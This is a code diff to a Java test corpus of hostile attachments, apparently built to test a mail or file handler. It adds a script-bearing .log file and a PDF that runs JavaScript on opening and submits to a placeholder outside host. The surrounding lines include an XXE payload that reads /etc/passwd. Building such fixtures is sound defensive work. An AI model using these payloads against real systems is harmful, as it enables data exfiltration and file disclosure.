@@ -105,8 +105,24 @@ public final class HostileCorpus {
                 "application/xml",
                 "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>"));
         all.add(file("tnef", all.size(), "winmail.dat", "application/ms-tnef", "x\u009f>\"" + "\u00ff".repeat(200)));
+        all.add(file("text that is a page", all.size(), "x.log", "text/plain", "<script>" + FIRE + "</script>"));
+        all.add(file("pdf with a script", all.size(), "x.pdf", "application/pdf", pdf()));
         all.addAll(bombs(all.size()));
         return all;
+    }
+
+    /** One empty page, a script to run and an address to go to as soon as it is opened. */
+    private static String pdf() {
+        return """
+                %PDF-1.4
+                1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj
+                2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
+                3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj
+                4 0 obj << /S /JavaScript /JS (app.alert\\("hello"\\); this.submitForm\\("https://OUTSIDE/"\\);) /Next 5 0 R >> endobj
+                5 0 obj << /S /URI /URI (https://OUTSIDE/) >> endobj
+                trailer << /Root 1 0 R >>
+                %%EOF
+                """.replace("OUTSIDE", OUTSIDE);
     }
 
     private static List<Letter> bombs(int from) {
